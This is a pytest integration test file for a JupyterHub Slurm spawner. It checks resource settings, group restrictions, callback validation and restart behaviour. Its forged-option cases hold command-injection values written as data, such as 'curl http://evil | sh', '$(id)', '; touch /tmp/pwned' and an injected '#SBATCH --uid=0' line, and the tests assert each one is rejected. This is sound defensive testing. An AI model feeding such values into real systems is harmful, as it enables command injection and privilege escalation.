"""The slurm backend on a real Slurm (Debian's slurm-wlm, started by the session fixture).

A real hub with ProfileSpawner starts notebooks as Slurm jobs of a real unix
user. Submission goes through a configurable exec prefix: here a small script
that stands in for ``ssh`` to an HPC login node (it runs the command as the
user on this machine, or fails the way ssh does when the link is down).
"""

from __future__ import annotations

import json
import os
import signal
import stat
import subprocess
import time
from pathlib import Path

import pytest
import requests
from harness import (
    batch_venv,
    ensure_unix_user,
    free_port,
    login,
    remove_unix_user,
    start_hub,
    stop_server,
)

from jhub_af.hub import spawn_body

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(os.geteuid() != 0, reason="Slurm's daemons and job users need root"),
]

USER = "afhpc"
OTHER = "afcms"  # a user whose groups do not include the Slurm profile

HPC_PROFILE = {
    "slug": "hpc",
    "display_name": "HPC node (Slurm)",
    "backend": "slurm",
    "resources": {"cores": 1, "memory": "200M"},
    "slurm": {"partition": "debug", "walltime_hours": 1},
    "choices": {
        "partition": {"options": ["debug"], "default": "debug"},
        "walltime": {"min": 1, "max": 4, "default": 1},
    },
    "groups": ["/atlas/users"],
    "start_note": "Starts when the job leaves the queue.",
}
LOCAL_PROFILE = {"slug": "default", "display_name": "Default", "backend": "local"}

LOGIN_NODE = """#!/bin/sh
# Stands in for `ssh USER@hpc-login`: runs the command as USER on this machine,
# or fails as ssh does while the flag file {flag} exists (the link is down).
user="$1"; shift
if [ -e {flag} ]; then
  echo "ssh: connect to host hpc-login port 22: Connection timed out" >&2
  exit 255
fi
exec /usr/sbin/runuser -u "$user" -- "$@"
"""


def hub_config(venv, login_node, hub_port: int, poll_interval: int = 1) -> str:
    profiles = [HPC_PROFILE, LOCAL_PROFILE]
    return f"""
import os
c.JupyterHub.hub_bind_url = "http://127.0.0.1:{hub_port}"
c.JupyterHub.cleanup_servers = False
c.JupyterHub.authenticator_class = "af-demo"
c.DemoAuthenticator.allowed_vos = ["/atlas", "/cms"]
c.DemoAuthenticator.demo_users = {{
    {USER!r}: {{"groups": ["/atlas", "/atlas/users"]}},
    {OTHER!r}: {{"groups": ["/cms"]}},
}}
c.JupyterHub.spawner_class = "af-profiles"
# the job's call-back may set the port and nothing else
from jhub_af.spawner import install_job_callback
install_job_callback()
c.ProfileSpawner.profiles = {json.dumps(profiles)}
c.ProfileSpawner.backend_classes = {{
    "local": "jupyterhub.spawner.SimpleLocalProcessSpawner",
    "slurm": "jhub_af.spawner.slurm.GuardedSlurmSpawner",
}}
c.Spawner.poll_interval = {poll_interval}
c.Spawner.start_timeout = 120
c.Spawner.http_timeout = 60
c.GuardedSlurmSpawner.exec_prefix = "{login_node} {{username}}"
c.GuardedSlurmSpawner.batchspawner_singleuser_cmd = "{venv}/bin/batchspawner-singleuser"
c.GuardedSlurmSpawner.cmd = ["{venv}/bin/jupyterhub-singleuser"]
c.GuardedSlurmSpawner.environment = {{"PATH": "{venv}/bin:/usr/bin:/bin"}}
c.GuardedSlurmSpawner.req_keepvars_extra = "PATH"
c.GuardedSlurmSpawner.startup_poll_interval = 0.3
c.GuardedSlurmSpawner.query_failure_limit = 1000
"""


@pytest.fixture(scope="module")
def hpc(slurm_cluster, tmp_path_factory):
    """A hub whose slurm profile submits jobs of the unix user afhpc."""
    venv = batch_venv()
    created = [name for name in (USER, OTHER) if ensure_unix_user(name)[1]]
    workdir = tmp_path_factory.mktemp("hpc-hub")
    flag = workdir / "login-node-down"
    login_node = workdir / "login-node"
    login_node.write_text(LOGIN_NODE.format(flag=flag))
    login_node.chmod(login_node.stat().st_mode | stat.S_IXUSR)
    hub_port, port = free_port(), free_port()
    config = hub_config(venv, login_node, hub_port)
    hub = start_hub(workdir, config, port=port)
    state = {"hub": hub, "workdir": workdir, "config": config, "port": port, "flag": flag}
    yield state
    state["hub"].stop()
    for job in slurm_cluster.jobs(USER):
        subprocess.run(["scancel", job], check=False)
    for name in created:
        remove_unix_user(name)


def _spawn(s: requests.Session, url: str, options: dict) -> requests.Response:
    return s.post(
        f"{url}/hub/api/users/{USER}/server", json=spawn_body(options, "6.1.1"), timeout=60
    )


def _wait_ready(s: requests.Session, url: str, user: str = USER, timeout: float = 120) -> dict:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        model = s.get(f"{url}/hub/api/users/{user}", timeout=10).json()
        server = model.get("servers", {}).get("")
        if server and server.get("ready"):
            return server
        if not server and not model.get("pending"):
            raise AssertionError(f"server of {user} is gone: {model}")
        time.sleep(0.3)
    raise TimeoutError(f"server of {user} not ready within {timeout}s")


def _job_script(job: str) -> str:
    return subprocess.run(
        ["scontrol", "write", "batch_script", job, "-"],
        capture_output=True,
        text=True,
        check=True,
        timeout=30,
    ).stdout


def _job_field(job: str, name: str) -> str:
    out = subprocess.run(
        ["scontrol", "show", "job", job], capture_output=True, text=True, check=True
    ).stdout
    return next(w.split("=", 1)[1] for w in out.split() if w.startswith(f"{name}="))


def _notebook_answers(s: requests.Session, url: str) -> bool:
    """The notebook answers an API call with a hub token (so it can reach the hub too)."""
    r = s.post(
        f"{url}/hub/api/users/{USER}/tokens",
        json={"note": "test", "expires_in": 600, "scopes": [f"access:servers!user={USER}"]},
        timeout=10,
    )
    r.raise_for_status()
    headers = {"Authorization": f"token {r.json()['token']}"}
    status = requests.get(f"{url}/user/{USER}/api/status", headers=headers, timeout=30)
    return status.status_code == 200


def _started_server(hpc, options=None):
    s = login(hpc["hub"].url, USER, "demo")
    r = _spawn(s, hpc["hub"].url, options or {"profile": "hpc", "walltime": 2})
    assert r.status_code in (201, 202), r.text
    return s, _wait_ready(s, hpc["hub"].url)


def test_slurm_profile_runs_the_notebook_as_a_job_with_the_profiles_resources(hpc, slurm_cluster):
    s, server = _started_server(hpc)
    url = hpc["hub"].url
    try:
        [job] = slurm_cluster.jobs(USER)
        assert _job_field(job, "Partition") == "debug"
        assert _job_field(job, "TimeLimit") == "02:00:00"
        assert _job_field(job, "NumCPUs") == "1"
        script = _job_script(job)
        assert "#SBATCH --partition=debug\n" in script
        assert "#SBATCH --time=0-02:00:00\n" in script
        assert "#SBATCH --mem=200M\n" in script
        assert server["user_options"] == {"profile": "hpc", "partition": "debug", "walltime": 2}
        assert _notebook_answers(s, url)
    finally:
        stop_server(s, url, USER)
    assert slurm_cluster.jobs(USER) == []


FORGED = [
    (
        {"profile": "hpc", "partition": "debug; touch /tmp/pwned"},
        "Option 'partition' of profile 'hpc' must be one of: debug.",
    ),
    (
        {"profile": "hpc", "partition": "debug\n#SBATCH --uid=0"},
        "Option 'partition' of profile 'hpc' must be one of: debug.",
    ),
    (
        {"profile": "hpc", "walltime": "2$(id)"},
        "Option 'walltime' of profile 'hpc' must be a whole number of hours from 1 to 4.",
    ),
    (
        {"profile": "hpc", "walltime": 10**30},
        "Option 'walltime' of profile 'hpc' must be from 1 to 4 hours.",
    ),
    (
        {"profile": "hpc", "walltime": True},
        "Option 'walltime' of profile 'hpc' must be a whole number of hours from 1 to 4.",
    ),
    (
        {"profile": "hpc", "prologue": "curl http://evil | sh"},
        "Unknown option(s) 'prologue' for profile 'hpc'; the options it takes are: "
        "profile, partition, walltime.",
    ),
    (
        {"profile": "hpc", "options": "--uid=0"},
        "Unknown option(s) 'options' for profile 'hpc'; the options it takes are: "
        "profile, partition, walltime.",
    ),
]


@pytest.mark.parametrize(("options", "message"), FORGED, ids=[str(i) for i in range(len(FORGED))])
def test_forged_options_are_refused_and_nothing_is_queued(hpc, slurm_cluster, options, message):
    url = hpc["hub"].url
    s = login(url, USER, "demo")
    r = _spawn(s, url, options)
    assert r.status_code == 400, r.text
    assert r.json()["message"] == message
    model = s.get(f"{url}/hub/api/users/{USER}", timeout=10).json()
    assert model["servers"] == {} and model["pending"] is None
    assert slurm_cluster.jobs(USER) == []
    assert not os.path.exists("/tmp/pwned")


def test_another_groups_slurm_profile_is_refused(hpc, slurm_cluster):
    url = hpc["hub"].url
    s = login(url, OTHER, "demo")
    r = s.post(
        f"{url}/hub/api/users/{OTHER}/server",
        json=spawn_body({"profile": "hpc"}, "6.1.1"),
        timeout=30,
    )
    assert r.status_code == 400
    assert r.json()["message"] == (
        "The profile 'hpc' is for members of /atlas/users; ask your VO admin. "
        "Profiles you can use: default."
    )
    assert slurm_cluster.jobs() == []


def _job_token(job: str) -> str:
    """The notebook's hub token, read from its process (we are root, like slurmd)."""
    for pid in subprocess.run(["pgrep", "-u", USER], capture_output=True, text=True).stdout.split():
        try:
            environ = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
        except OSError:
            continue
        for item in environ:
            if item.startswith(b"JUPYTERHUB_API_TOKEN="):
                return item.split(b"=", 1)[1].decode()
    raise AssertionError(f"no notebook process of job {job} found")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ({"port": 1234, "ip": "10.0.0.66"}, 'The job may send only {"port": N}.'),
        ({"cmd": ["/bin/sh"]}, 'The job may send only {"port": N}.'),
        ({"port": "8888; id"}, "port must be a whole number from 1 to 65535."),
        ({"port": 70000}, "port must be a whole number from 1 to 65535."),
    ],
)
def test_job_callback_accepts_only_the_port(hpc, slurm_cluster, body, message):
    s, server = _started_server(hpc)
    url = hpc["hub"].url
    try:
        [job] = slurm_cluster.jobs(USER)
        token = _job_token(job)
        r = requests.post(
            f"{url}/hub/api/batchspawner",
            json=body,
            headers={"Authorization": f"token {token}"},
            timeout=10,
        )
        assert r.status_code == 400
        assert r.json()["message"] == message
        after = s.get(f"{url}/hub/api/users/{USER}", timeout=10).json()["servers"][""]
        assert after["url"] == server["url"] and after["ready"]
        assert _notebook_answers(s, url)
    finally:
        stop_server(s, url, USER)


def test_failed_squeue_does_not_kill_a_live_server(hpc, slurm_cluster):
    s, _ = _started_server(hpc)
    url = hpc["hub"].url
    try:
        hpc["flag"].touch()  # the login node is unreachable: every squeue fails
        hub_log = hpc["hub"].process.log
        deadline = time.monotonic() + 60
        while hub_log.read_text().count("Status query for job") < 3:
            assert time.monotonic() < deadline, "the hub did not poll the job"
            time.sleep(0.5)
        hpc["flag"].unlink()
        server = s.get(f"{url}/hub/api/users/{USER}", timeout=10).json()["servers"][""]
        assert server["ready"]
        assert len(slurm_cluster.jobs(USER)) == 1
        assert _notebook_answers(s, url)
    finally:
        hpc["flag"].unlink(missing_ok=True)
        stop_server(s, url, USER)


def test_hub_restart_keeps_the_slurm_server_and_can_stop_it(hpc, slurm_cluster):
    s, server = _started_server(hpc)
    [job] = slurm_cluster.jobs(USER)
    old = hpc["hub"]
    old.process.proc.send_signal(signal.SIGTERM)  # the hub alone, not its notebooks
    old.process.proc.wait(60)
    old.stop()
    assert slurm_cluster.jobs(USER) == [job]
    hpc["hub"] = start_hub(hpc["workdir"], hpc["config"], port=hpc["port"])
    url = hpc["hub"].url
    s = login(url, USER, "demo")
    after = _wait_ready(s, url)
    assert after["url"] == server["url"]
    assert _notebook_answers(s, url)
    stop_server(s, url, USER)
    assert slurm_cluster.jobs(USER) == []


def test_progress_says_the_job_is_queued_in_slurm(hpc, slurm_cluster):
    url = hpc["hub"].url
    # fill the node, so that the notebook's job has to wait in the queue
    blocker = slurm_cluster.run(
        "sbatch",
        "--parsable",
        "-p",
        "debug",
        "-c",
        str(os.cpu_count()),
        "-o",
        "/dev/null",
        "--wrap",
        "sleep 300",
    ).strip()
    s = login(url, USER, "demo")
    try:
        r = _spawn(s, url, {"profile": "hpc"})
        assert r.status_code == 202, r.text
        messages = []
        with s.get(f"{url}/hub/api/users/{USER}/server/progress", stream=True, timeout=60) as p:
            for line in p.iter_lines(decode_unicode=True):
                if not line.startswith("data:"):
                    continue
                event = json.loads(line[5:])
                messages.append(event.get("message", ""))
                if event.get("message", "").startswith("Queued in Slurm") and blocker:
                    subprocess.run(["scancel", blocker], check=True)
                    blocker = ""
                if event.get("ready") or event.get("failed"):
                    break
        [job] = slurm_cluster.jobs(USER)
        assert f"Queued in Slurm (job {job}, debug)" in messages
        assert messages[-1].startswith("Server ready at")
        _wait_ready(s, url)
    finally:
        if blocker:
            subprocess.run(["scancel", blocker], check=False)
        stop_server(s, url, USER)
